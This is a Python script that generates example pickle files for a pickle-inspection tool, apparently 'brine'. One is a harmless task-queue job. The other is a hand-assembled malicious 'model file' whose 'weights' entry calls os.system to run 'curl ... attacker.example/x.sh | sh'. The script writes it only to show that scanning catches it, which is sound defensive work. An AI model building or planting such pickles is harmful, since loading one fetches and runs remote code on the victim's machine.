"""Writes the sample pickles in examples/ (run from anywhere; output is deterministic).

    python3 examples/make_examples.py

task_queue.pkl
    A job as a Python task queue would store it in Redis: a dict with an id,
    the task name, positional and keyword arguments, an ETA (datetime with a
    time zone), money as Decimal, nested lists, raw bytes, and an instance of
    the application's own class `billing.models.Customer`. That class exists
    only in the application, so `pickle.loads` fails anywhere else, while
    `brine show` still prints everything, the instance included. Written with
    pickle.dumps at protocol 4 (the default since Python 3.8).

untrusted.pkl
    What a malicious "model file" looks like: a dict whose "weights" entry
    is a call of os.system with a shell command. pickle.loads would run the
    command; `brine dis` and `brine scan` show the call without running
    anything. The bytes are assembled by hand, because CPython's pickler
    writes os.system under its real module name `posix`; this script never
    unpickles them.
"""

import datetime
import decimal
import os
import pickle
import pickletools
import struct
import sys
import types

HERE = os.path.dirname(os.path.abspath(__file__))


class Customer:
    """The application's own class; pickles name it billing.models.Customer."""

    def __init__(self, customer_id, name, email, tags):
        self.customer_id = customer_id
        self.name = name
        self.email = email
        self.tags = tags


def _register_application_module():
    """Makes `billing.models.Customer` importable here, as it is in the application."""
    Customer.__module__ = "billing.models"
    models = types.ModuleType("billing.models")
    models.Customer = Customer
    sys.modules["billing"] = types.ModuleType("billing")
    sys.modules["billing.models"] = models


def task_queue_payload():
    _register_application_module()
    customer = Customer(4711, "Grace Hopper", "grace@example.com", ["priority", "eu"])
    return {
        "id": "7f3c2a1e-9b4d-4c8e-a6f0-2d5b8e1c9a37",
        "task": "billing.tasks.render_invoice",
        "args": [customer, [("2024-03", decimal.Decimal("129.90")),
                            ("2024-04", decimal.Decimal("129.90"))]],
        "kwargs": {"currency": "EUR", "send_email": True, "copies": 2, "locale": "de_DE"},
        "eta": datetime.datetime(2024, 5, 1, 9, 30, tzinfo=datetime.timezone.utc),
        "retries": 0,
        "max_retries": 5,
        "priority": 0.75,
        "logo_png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        "routing": ("invoices", "eu-west-1"),
        "parent_id": None,
    }


def _binunicode(text):
    data = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def untrusted_pickle():
    """Protocol 2: {'model': 'resnet50', 'weights': os.system('curl ... | sh')}."""
    command = "curl -s http://attacker.example/x.sh | sh"
    return b"".join([
        b"\x80\x02",                      # PROTO 2
        b"}", b"(",                       # EMPTY_DICT, MARK
        _binunicode("model"), _binunicode("resnet50"),
        _binunicode("weights"),
        b"cos\nsystem\n",                 # GLOBAL os.system
        _binunicode(command), b"\x85",    # TUPLE1: the argument tuple
        b"R",                             # REDUCE: os.system(command)
        b"u",                             # SETITEMS
        b".",                             # STOP
    ])


def main():
    task_bytes = pickle.dumps(task_queue_payload(), protocol=4)
    untrusted_bytes = untrusted_pickle()
    pickletools.dis(untrusted_bytes, out=open(os.devnull, "w"))  # well-formed, never loaded
    for name, data in (("task_queue.pkl", task_bytes), ("untrusted.pkl", untrusted_bytes)):
        with open(os.path.join(HERE, name), "wb") as out:
            out.write(data)
        print("wrote examples/%s (%d bytes)" % (name, len(data)))


if __name__ == "__main__":
    main()
